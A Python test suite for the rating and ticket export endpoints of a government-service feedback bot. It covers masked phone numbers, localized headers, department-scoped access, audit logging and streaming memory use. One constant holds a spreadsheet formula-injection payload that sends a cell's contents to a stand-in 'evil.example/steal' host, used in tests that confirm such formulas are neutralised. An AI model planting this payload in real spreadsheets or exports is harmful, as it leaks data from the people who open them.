"""Exports of ratings and tickets over HTTP, on SQLite and on PostgreSQL: the rows of a period
with their dimensions, complaint and marks, contacts masked, headers in the caller's language,
formulas neutralised in CSV and XLSX, a department's own rows only, bad input refused with its
reason, an audit entry per export, and memory that stays flat however many rows."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx
import openpyxl
import pytest
import sqlalchemy as sa

from bot.results import exports, national
from storage.tables import audit_log, ratings, records
from tests.bot.conftest import PHONE, FakeClock, Harness, make_settings, serving

OURS = "市自然资源局"  # the sample case's department
THEIRS = "市市场监督管理局"
RECORD = "370200-2026-0001"
DAY = {"from": "2026-11-27", "to": "2026-11-27"}  # the fake clock's day in Shanghai
HYPERLINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"点此领取补贴")'


async def bad_review(h: Harness, record_no: str = RECORD) -> None:
    """A case and its bad review by SMS: attitude and repeated visits, no callback."""
    await h.report(record_no)
    for answer in ("1 2 2 1", "13", "材料被要求补交了三次", "2"):
        await h.reply_text(answer)


async def good_review(h: Harness, comment: str, record_no: str = "370200-2026-0002") -> None:
    await h.report(record_no, phone="+8613900001111")
    for answer in ("5 5 4 5", comment):
        await h.reply_text(answer, phone="+8613900001111")


async def export(
    h: Harness,
    path: str,
    key: dict[str, str],
    *,
    headers: dict[str, str] | None = None,
    **params: str,
) -> httpx.Response:
    return await h.client.get(
        f"/api/v1/exports/{path}", params={**DAY, **params}, headers={**key, **(headers or {})}
    )


def table(response: httpx.Response) -> list[dict[str, str]]:
    """A CSV export as rows keyed by header (checking the byte-order mark Excel needs)."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(response.content.decode().removeprefix("\ufeff"))))


def header(response: httpx.Response) -> list[str]:
    return next(csv.reader(io.StringIO(response.content.decode().removeprefix("\ufeff"))))


def sheet_rows(response: httpx.Response) -> list[tuple[Any, ...]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    rows = [tuple(row) for row in workbook.active.iter_rows(values_only=True)]
    workbook.close()
    return rows


async def test_ratings_with_dimensions_complaint_and_a_masked_contact(harness: Harness) -> None:
    await bad_review(harness)
    await good_review(harness, "窗口服务很耐心")
    response = await export(harness, "ratings.csv", harness.api_key("supervisor"))
    bad, good = table(response)
    assert bad["办件编号"] == RECORD and good["办件编号"] == "370200-2026-0002"
    assert bad["评价时间"] == "2026-11-27 10:00:00"  # local time, not UTC
    assert (bad["满意度"], bad["满意度名称"], bad["评价渠道"]) == ("1", "非常不满意", "sms")
    assert (bad["服务态度"], bad["工作效率"], bad["服务便民"]) == ("2", "2", "1")
    assert bad["差评问题"] == "服务态度差，多次跑动、材料反复要求"
    assert (bad["问题详情"], bad["需要回访"]) == ("材料被要求补交了三次", "否")
    assert bad["部门"] == OURS and bad["行政区划"] == "370202" and bad["窗口"] == "A12"
    assert (good["文字评价"], good["差评问题"], good["需要回访"]) == ("窗口服务很耐心", "", "")
    # the mask, neutralised (it begins with +); never the number
    assert bad["评价人"] == "'+86 138****1234" and good["评价人"] == "'+86 139****1111"
    assert PHONE.removeprefix("+86") not in response.text and "13900001111" not in response.text
    assert (bad["异常标记"], bad["剔除时间"]) == ("否", "")


async def test_excluded_and_flagged_ratings_are_marked_not_dropped(harness: Harness) -> None:
    await bad_review(harness)
    await good_review(harness, "好")
    excluded_at = datetime(2026, 11, 28, 1, 30, tzinfo=UTC)
    with harness.rt.db.begin() as conn:
        conn.execute(
            ratings.update()
            .where(ratings.c.level == 1)
            .values(excluded_at=excluded_at, excluded_reason="appeal upheld: malicious")
        )
        conn.execute(ratings.update().where(ratings.c.level == 5).values(flagged=True))
    rows = table(await export(harness, "ratings.csv", harness.api_key("reviewer"), lang="en"))
    by_level = {row["Level"]: row for row in rows}
    assert by_level["1"]["Excluded at"] == "2026-11-28 09:30:00"
    assert by_level["1"]["Excluded because"] == "appeal upheld: malicious"
    assert by_level["1"]["Flagged"] == "no"
    assert by_level["5"]["Flagged"] == "yes" and by_level["5"]["Excluded at"] == ""


async def test_headers_in_the_callers_language(harness: Harness) -> None:
    await bad_review(harness)
    key = harness.api_key("supervisor")
    default = header(await export(harness, "ratings.csv", key))
    english = header(await export(harness, "ratings.csv", key, lang="en"))
    taiwan = header(
        await export(harness, "ratings.csv", key, headers={"Accept-Language": "zh-TW,en;q=0.5"})
    )
    weighted = header(
        await export(
            harness, "ratings.csv", key, headers={"Accept-Language": "fr, en;q=0.9, zh;q=0.8"}
        )
    )
    assert default[:3] == ["编号", "办件编号", "评价时间"]
    assert english[:3] == ["ID", "Case number", "Rated at"]
    assert taiwan[:3] == ["編號", "辦件編號", "評價時間"]
    assert weighted == english  # French is not spoken: the next by q-value
    assert {"服务态度", "工作效率", "服务便民"} <= set(default)  # the survey's dimension labels
    assert len(default) == len(english) == len(taiwan)
    ticket_rows = sheet_rows(await export(harness, "tickets.xlsx", key, lang="zh_Hant_TW"))
    assert ticket_rows[0][:4] == ("編號", "評價編號", "辦件編號", "部門")


async def test_a_citizens_formula_is_neutralised_in_csv_and_xlsx(harness: Harness) -> None:
    await good_review(harness, HYPERLINK)
    key = harness.api_key("supervisor")
    [row] = table(await export(harness, "ratings.csv", key))
    assert row["文字评价"] == "'" + HYPERLINK
    [head, cells] = sheet_rows(await export(harness, "ratings.xlsx", key))
    comment = cells[head.index("文字评价")]
    assert comment == "'" + HYPERLINK
    # and it is a text cell, not a formula
    response = await export(harness, "ratings.xlsx", key)
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cell = workbook.active.cell(row=2, column=head.index("文字评价") + 1)
    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK
    assert not any(c.data_type == "f" for line in workbook.active.iter_rows() for c in line)


@pytest.mark.parametrize("text", ["+1", "-1", "@SUM(A1)", "\tcmd", "\rcmd", "=1+1"])
def test_every_formula_start_is_neutralised(text: str) -> None:
    assert exports.neutralised(text) == "'" + text
    assert exports.neutralised("1+1") == "1+1" and exports.neutralised("好") == "好"


async def test_the_xlsx_holds_what_the_csv_holds(harness: Harness) -> None:
    await bad_review(harness)
    await good_review(harness, "很好")
    key = harness.api_key("supervisor")
    from_csv = table(await export(harness, "ratings.csv", key))
    head, *cells = sheet_rows(await export(harness, "ratings.xlsx", key))
    from_xlsx = [
        {h: "" if v is None else str(v) for h, v in zip(head, line, strict=True)} for line in cells
    ]
    assert from_xlsx == from_csv


async def test_the_national_layout(harness: Harness) -> None:
    await bad_review(harness)
    await good_review(harness, "很好")
    key = harness.api_key("supervisor")
    response = await export(harness, "ratings.csv", key, layout="national", lang="en")
    assert header(response) == list(national.FIELDS)  # the standard's names in any language
    bad, good = table(response)
    assert bad == {
        "办件编号": RECORD,
        "评价渠道": "7",  # provincial pf, RATEBOT_RESULTS_CODES' default
        "评价人": "'+86 138****1234",
        "评价时间": "20261127T100000",
        "评价次数": "1",
        "满意度": "非常不满意",
        "满意度代码": "1",
        "文字评价": "",
        "行政区划": "370202",
    }
    assert (good["满意度"], good["满意度代码"], good["文字评价"]) == ("非常满意", "5", "很好")
    [head, *_] = sheet_rows(await export(harness, "ratings.xlsx", key, layout="national"))
    assert list(head) == list(national.FIELDS)


async def test_the_national_layout_in_the_standards_codes(
    backend: dict[str, Any], clock: FakeClock
) -> None:
    settings = make_settings(**backend, results_codes="gbt39046")
    async with serving(settings, clock) as h:
        await good_review(h, "很好")
        [row] = table(await export(h, "ratings.csv", h.api_key("supervisor"), layout="national"))
    assert (row["评价渠道"], row["满意度代码"]) == ("短信", "1")


async def test_tickets_with_their_bad_review(harness: Harness) -> None:
    await bad_review(harness)
    await good_review(harness, "很好")  # no ticket
    [row] = table(await export(harness, "tickets.csv", harness.api_key("supervisor"), lang="en"))
    assert (row["Case number"], row["Department"], row["Ticket state"]) == (RECORD, OURS, "open")
    assert (row["Tier"], row["Opened at"], row["Due at"]) == (
        "immediate",
        "2026-11-27 10:00:00",
        "2026-12-01 00:00:00",
    )
    assert (row["Level"], row["Staff attitude"], row["Answered on time"]) == ("1", "2", "")
    assert row["Problems"].startswith("Unfriendly") and row["Wants a callback"] == "no"
    assert row["Contact (masked)"] == "'+86 138****1234"


async def test_a_department_exports_its_own_rows_only(harness: Harness) -> None:
    await bad_review(harness)
    for answer in ("5 5 5 5", "0"):  # an unsolicited rating: no case, no department
        await harness.reply_text(answer, phone="+8613700002222")
    ours, theirs = harness.api_key("department", OURS), harness.api_key("department", THEIRS)
    assert [r["部门"] for r in table(await export(harness, "ratings.csv", ours))] == [OURS]
    assert table(await export(harness, "ratings.csv", theirs)) == []
    assert table(await export(harness, "tickets.csv", theirs)) == []
    for path in ("ratings.csv", "ratings.xlsx", "tickets.csv", "tickets.xlsx"):
        refused = await export(harness, path, theirs, department=OURS)
        assert refused.status_code == 403, path
        assert "another department" in refused.json()["detail"]
    supervisor = harness.api_key("supervisor")
    assert len(table(await export(harness, "ratings.csv", supervisor))) == 2
    only = table(await export(harness, "ratings.csv", supervisor, department=OURS))
    assert [r["部门"] for r in only] == [OURS]
    platform = await export(harness, "ratings.csv", harness.api_key("platform"))
    assert platform.status_code == 403


async def test_filters_and_local_days(harness: Harness) -> None:
    await bad_review(harness)
    key = harness.api_key("supervisor")
    assert len(table(await export(harness, "ratings.csv", key, district="370202"))) == 1
    assert table(await export(harness, "ratings.csv", key, district="370203")) == []
    assert table(await export(harness, "ratings.csv", key, channel="phone")) == []
    assert table(await export(harness, "tickets.csv", key, state="closed")) == []
    # 10:00 on the 27th in Shanghai is 02:00 UTC: the 26th is another local day
    day_before = {"from": "2026-11-26", "to": "2026-11-26"}
    assert table(await export(harness, "ratings.csv", key, **day_before)) == []
    month = {"from": "2026-11-01", "to": "2026-11-30"}
    assert len(table(await export(harness, "ratings.csv", key, **month))) == 1


@pytest.mark.parametrize(
    ("query", "reason"),
    [
        ({"from": "2026-11-28", "to": "2026-11-27"}, "from (2026-11-28) is after to (2026-11-27)"),
        ({"from": "2025-01-01", "to": "2026-11-27"}, "the period is 696 days; at most 400"),
        ({"from": "2026-11-31", "to": "2026-12-01"}, "valid date"),
        ({"from": "27/11/2026", "to": "2026-12-01"}, "valid date"),
        ({"to": "2026-12-01"}, "Field required"),
        ({**DAY, "lang": "fr"}, "lang must be one of"),
        ({**DAY, "layout": "provincial"}, "'standard' or 'national'"),
    ],
)
async def test_bad_input_is_422_with_the_reason(
    harness: Harness, query: dict[str, str], reason: str
) -> None:
    response = await harness.client.get(
        "/api/v1/exports/ratings.csv", params=query, headers=harness.api_key("supervisor")
    )
    assert response.status_code == 422
    assert reason in response.text


async def test_every_export_is_an_audit_entry(harness: Harness) -> None:
    await bad_review(harness)
    await export(harness, "ratings.xlsx", harness.api_key("department", OURS), layout="national")
    await export(harness, "tickets.csv", harness.api_key("supervisor"), district="370202")
    await export(harness, "ratings.csv", harness.api_key("department", THEIRS), department=OURS)
    with harness.rt.db.connect() as conn:
        entries = (
            conn.execute(
                sa.select(audit_log).where(audit_log.c.entity == "export").order_by(audit_log.c.id)
            )
            .mappings()
            .all()
        )
    assert [(e["action"], e["actor_role"]) for e in entries] == [
        ("export_ratings", "department"),
        ("export_tickets", "supervisor"),
    ]  # the refused one exported nothing
    assert entries[0]["after"]["format"] == "xlsx"
    assert entries[0]["after"]["layout"] == "national"
    assert entries[0]["after"]["departments"] == [OURS]
    assert (
        entries[1]["after"]["district"] == "370202" and entries[1]["after"]["departments"] is None
    )
    assert entries[1]["after"]["from"] == "2026-11-27"


# --- streaming ---------------------------------------------------------------------------------


def load_ratings(engine: sa.Engine, day: date, count: int, start: int) -> None:
    """``count`` finished ratings of as many cases, on ``day`` (noon UTC)."""
    at = datetime.combine(day, datetime.min.time(), UTC) + timedelta(hours=4)
    batch = 5000
    with engine.begin() as conn:
        for first in range(start, start + count, batch):
            numbers = range(first, min(first + batch, start + count))
            conn.execute(
                records.insert(),
                [
                    {
                        "id": n,
                        "record_no": f"370200-2026-{n:07d}",
                        "item_code": "11370200MB1234567X",
                        "item_name": "不动产登记",
                        "department": OURS,
                        "district": "370202",
                        "hall": "烟台市政务服务中心",
                        "window": "A12",
                        "locale": "zh_Hans_CN",
                        "phone_mask": "+86 138****1234",
                    }
                    for n in numbers
                ],
            )
            conn.execute(
                ratings.insert(),
                [
                    {
                        "id": n,
                        "conversation_id": f"c-{n}",
                        "conversation_key": f"sms:{n}",
                        "record_id": n,
                        "channel": "sms",
                        "provider": "twilio",
                        "locale": "zh_Hans_CN",
                        "level": n % 5 + 1,
                        "comment": "窗口服务很耐心，材料一次就办好了" * 3,
                        "status": "complete",
                        "evaluation_count": 1,
                        "unsolicited": False,
                        "flagged": False,
                        "created_at": at,
                        "submitted_at": at,
                    }
                    for n in numbers
                ],
            )


def export_peak(harness: Harness, day: date) -> tuple[int, int]:
    """The peak of Python's memory while a day's CSV is produced and dropped chunk by chunk, and
    the number of lines it had."""
    scope = exports.Scope(day, day, "Asia/Shanghai")
    sheet = exports.ratings_sheet(
        harness.rt.db,
        scope,
        locale="zh_Hans_CN",
        survey=harness.rt.survey,
        codes=national.load_codes("provincial"),
    )
    tracemalloc.start()
    try:
        lines = sum(chunk.count(b"\n") for chunk in exports.csv_chunks(sheet))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, lines


@pytest.mark.slow
async def test_memory_stays_flat_from_5k_to_50k_rows(harness: Harness) -> None:
    small, large = date(2026, 11, 2), date(2026, 11, 3)
    load_ratings(harness.rt.db, small, 5_000, start=1)
    load_ratings(harness.rt.db, large, 50_000, start=10_001)
    export_peak(harness, small)  # warm up: queries compiled, catalogs loaded
    small_peak, small_lines = export_peak(harness, small)
    large_peak, large_lines = export_peak(harness, large)
    assert (small_lines, large_lines) == (5_001, 50_001)
    # Ten times the rows (about 1.2 MB of CSV against 12 MB): held in memory they would show;
    # streamed, the peak is a batch of rows and a chunk of text either way.
    assert large_peak < small_peak * 1.25 + 256 * 1024, (small_peak, large_peak)
    assert large_peak < 8 * 1024 * 1024


async def test_the_csv_goes_out_in_chunks(harness: Harness) -> None:
    load_ratings(harness.rt.db, date(2026, 11, 2), 3_000, start=1)
    scope = exports.Scope(date(2026, 11, 2), date(2026, 11, 2), "Asia/Shanghai")
    sheet = exports.ratings_sheet(
        harness.rt.db,
        scope,
        locale="en",
        survey=harness.rt.survey,
        codes=national.load_codes("provincial"),
    )
    chunks = list(exports.csv_chunks(sheet))
    assert len(chunks) > 5
    # a chunk is CSV_CHUNK characters and the row that crossed the line; UTF-8 makes a Chinese
    # character three bytes
    assert max(len(c) for c in chunks) < 3 * (exports.CSV_CHUNK + 1024)
    assert b"".join(chunks).count(b"\n") == 3_001
